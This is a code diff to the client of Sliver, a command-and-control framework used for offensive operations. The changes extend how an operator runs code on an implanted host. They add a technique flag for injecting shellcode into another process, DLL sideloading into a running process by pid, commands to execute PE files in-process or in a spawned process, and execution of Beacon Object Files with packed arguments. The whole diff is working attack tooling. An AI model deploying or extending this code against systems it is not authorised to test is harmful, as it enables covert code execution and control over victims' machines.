@@ -30,8 +30,10 @@ import (
 	"log"
 	"os"
 	"path"
+	"path/filepath"
 	"strconv"
 	"strings"
+	"unicode/utf16"
 
 	"github.com/bishopfox/sliver/client/core"
 	"github.com/bishopfox/sliver/client/spin"
@@ -73,10 +75,11 @@ func executeShellcode(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	msg := fmt.Sprintf("Sending shellcode to %s ...", session.GetName())
 	go spin.Until(msg, ctrl)
 	task, err := rpc.Task(context.Background(), &sliverpb.TaskReq{
-		Data:     shellcodeBin,
-		RWXPages: ctx.Flags.Bool("rwx-pages"),
-		Pid:      uint32(pid),
-		Request:  ActiveSession.Request(ctx),
+		Data:      shellcodeBin,
+		RWXPages:  ctx.Flags.Bool("rwx-pages"),
+		Pid:       uint32(pid),
+		Technique: ctx.Flags.String("technique"),
+		Request:   ActiveSession.Request(ctx),
 	})
 	ctrl <- true
 	<-ctrl
@@ -88,6 +91,10 @@ func executeShellcode(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		fmt.Printf(Warn+"Error: %s\n", task.Response.GetErr())
 		return
 	}
+	if pid != 0 {
+		fmt.Printf(Info+"Injected shellcode into process %d (%s)\n", pid, task.Technique)
+		return
+	}
 	fmt.Printf(Info + "Executed shellcode on target\n")
 }
 
@@ -294,6 +301,7 @@ func sideload(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	entryPoint := ctx.Flags.String("entry-point")
 	processName := ctx.Flags.String("process")
 	args := ctx.Flags.String("args")
+	pid := ctx.Flags.Uint("pid")
 
 	binData, err := ioutil.ReadFile(binPath)
 	if err != nil {
@@ -308,6 +316,7 @@ func sideload(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		Data:        binData,
 		EntryPoint:  entryPoint,
 		ProcessName: processName,
+		Pid:         uint32(pid),
 	})
 	ctrl <- true
 	<-ctrl
@@ -320,6 +329,10 @@ func sideload(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		fmt.Printf(Warn+"Error: %s\n", sideload.GetResponse().GetErr())
 		return
 	}
+	if pid != 0 {
+		fmt.Printf(Info+"Sideloaded %s into process %d\n", binPath, pid)
+		return
+	}
 	var outFilePath *os.File
 	if ctx.Flags.Bool("save") {
 		outFile := path.Base(fmt.Sprintf("%s_%s*.log", ctx.Command.Name, session.GetHostname()))
@@ -367,6 +380,7 @@ func spawnDll(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		Data:        binData,
 		ProcessName: processName,
 		Offset:      offset,
+		PipeName:    ctx.Flags.String("pipe"),
 	})
 
 	if err != nil {
@@ -379,6 +393,7 @@ func spawnDll(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 		fmt.Printf(Warn+"Error: %s\n", spawndll.GetResponse().GetErr())
 		return
 	}
+	fmt.Printf(Info+"Spawned %s (pid %d)\n", processName, spawndll.GetPid())
 	var outFilePath *os.File
 	if ctx.Flags.Bool("save") {
 		outFile := path.Base(fmt.Sprintf("%s_%s*.log", ctx.Command.Name, session.GetHostname()))
@@ -391,8 +406,190 @@ func spawnDll(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
 	}
 }
 
+func executePE(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.Get()
+	if session == nil {
+		return
+	}
+	if len(ctx.Args) < 1 {
+		fmt.Printf(Warn + "See `help execute-pe` for usage.\n")
+		return
+	}
+	binPath := ctx.Args[0]
+	binData, err := ioutil.ReadFile(binPath)
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err.Error())
+		return
+	}
+	peFile, err := pe.NewFile(bytes.NewReader(binData))
+	if err != nil {
+		fmt.Printf(Warn+"%s is not a valid PE file: %s\n", binPath, err)
+		return
+	}
+	if peFile.Characteristics&0x2000 != 0 {
+		fmt.Printf(Warn + "This is a DLL, use sideload or spawndll instead\n")
+		return
+	}
+
+	// Leave the implant enough time to kill the executable and respond
+	timeout := commandTimeout(ctx)
+	if 1 < timeout {
+		timeout--
+	}
+	inProcess := ctx.Flags.Bool("in-process")
+	processName := ctx.Flags.String("process")
+	ctrl := make(chan bool)
+	go spin.Until(fmt.Sprintf("Executing %s", binPath), ctrl)
+	executePE, err := rpc.ExecutePE(context.Background(), &sliverpb.ExecutePEReq{
+		Request:     ActiveSession.Request(ctx),
+		Data:        binData,
+		Args:        ctx.Flags.String("args"),
+		ProcessName: processName,
+		InProcess:   inProcess,
+		Timeout:     int32(timeout),
+		Name:        filepath.Base(binPath),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		fmt.Printf(Warn+"Error: %v\n", err)
+		return
+	}
+	if executePE.GetResponse().GetErr() != "" {
+		fmt.Printf(Warn+"Error: %s\n", executePE.GetResponse().GetErr())
+		return
+	}
+	if inProcess {
+		fmt.Printf(Info+"Executed %s in the implant process\n", binPath)
+	} else {
+		fmt.Printf(Info+"Executed %s in %s (pid %d)\n", binPath, processName, executePE.GetPid())
+	}
+	if executePE.GetTimedOut() {
+		fmt.Printf(Warn + "Execution timed out, the executable was killed\n")
+	} else {
+		fmt.Printf(Info+"Exit code: %d\n", executePE.GetExitCode())
+	}
+	fmt.Printf(Info+"Output:\n%s", executePE.GetOutput())
+	if ctx.Flags.Bool("save") {
+		outFile := path.Base(fmt.Sprintf("%s_%s*.log", ctx.Command.Name, session.GetHostname()))
+		outFilePath, err := ioutil.TempFile("", outFile)
+		if err != nil {
+			fmt.Printf(Warn+"%s\n", err)
+			return
+		}
+		defer outFilePath.Close()
+		outFilePath.Write([]byte(executePE.GetOutput()))
+		fmt.Printf(Info+"Output saved to %s\n", outFilePath.Name())
+	}
+}
+
+func executeBOF(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.Get()
+	if session == nil {
+		return
+	}
+	if len(ctx.Args) < 1 {
+		fmt.Printf(Warn + "See `help execute-bof` for usage.\n")
+		return
+	}
+	binPath := ctx.Args[0]
+	binData, err := ioutil.ReadFile(binPath)
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err.Error())
+		return
+	}
+	objFile, err := pe.NewFile(bytes.NewReader(binData))
+	if err != nil {
+		fmt.Printf(Warn+"%s is not a valid object file: %s\n", binPath, err)
+		return
+	}
+	if objFile.Machine != pe.IMAGE_FILE_MACHINE_AMD64 {
+		fmt.Printf(Warn + "Only x64 object files are supported\n")
+		return
+	}
+	args, err := packBOFArgs(ctx.Flags.String("format"), ctx.Args[1:])
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+
+	ctrl := make(chan bool)
+	go spin.Until(fmt.Sprintf("Executing %s", binPath), ctrl)
+	executeBOF, err := rpc.ExecuteBOF(context.Background(), &sliverpb.ExecuteBOFReq{
+		Request:    ActiveSession.Request(ctx),
+		Data:       binData,
+		EntryPoint: ctx.Flags.String("entry-point"),
+		Args:       args,
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		fmt.Printf(Warn+"Error: %v\n", err)
+		return
+	}
+	if executeBOF.GetResponse().GetErr() != "" {
+		fmt.Printf(Warn+"Error: %s\n", executeBOF.GetResponse().GetErr())
+		return
+	}
+	fmt.Printf(Info+"Output:\n%s\n", executeBOF.GetOutput())
+	if ctx.Flags.Bool("save") {
+		outFile := path.Base(fmt.Sprintf("%s_%s*.log", ctx.Command.Name, session.GetHostname()))
+		outFilePath, err := ioutil.TempFile("", outFile)
+		if err != nil {
+			fmt.Printf(Warn+"%s\n", err)
+			return
+		}
+		defer outFilePath.Close()
+		outFilePath.Write([]byte(executeBOF.GetOutput()))
+		fmt.Printf(Info+"Output saved to %s\n", outFilePath.Name())
+	}
+}
+
 // -------- Utility functions
 
+// packBOFArgs - Pack arguments the way bof_pack does, one format character
+// per argument. The implant adds the length prefix.
+func packBOFArgs(format string, args []string) ([]byte, error) {
+	if len(format) != len(args) {
+		return nil, fmt.Errorf("Format has %d argument(s) but %d were given", len(format), len(args))
+	}
+	buf := &bytes.Buffer{}
+	for index, arg := range args {
+		switch format[index] {
+		case 'b':
+			data, err := ioutil.ReadFile(arg)
+			if err != nil {
+				return nil, err
+			}
+			binary.Write(buf, binary.LittleEndian, uint32(len(data)))
+			buf.Write(data)
+		case 'i':
+			value, err := strconv.ParseInt(arg, 0, 32)
+			if err != nil {
+				return nil, fmt.Errorf("Invalid integer %s", arg)
+			}
+			binary.Write(buf, binary.LittleEndian, int32(value))
+		case 's':
+			value, err := strconv.ParseInt(arg, 0, 16)
+			if err != nil {
+				return nil, fmt.Errorf("Invalid short %s", arg)
+			}
+			binary.Write(buf, binary.LittleEndian, int16(value))
+		case 'z':
+			binary.Write(buf, binary.LittleEndian, uint32(len(arg)+1))
+			buf.WriteString(arg)
+			buf.WriteByte(0)
+		case 'Z':
+			wide := utf16.Encode([]rune(arg + "\x00"))
+			binary.Write(buf, binary.LittleEndian, uint32(2*len(wide)))
+			binary.Write(buf, binary.LittleEndian, wide)
+		default:
+			return nil, fmt.Errorf("Unknown format character '%c'", format[index])
+		}
+	}
+	return buf.Bytes(), nil
+}
+
 func getActiveSliverConfig() *clientpb.ImplantConfig {
 	session := ActiveSession.Get()
 	if session == nil {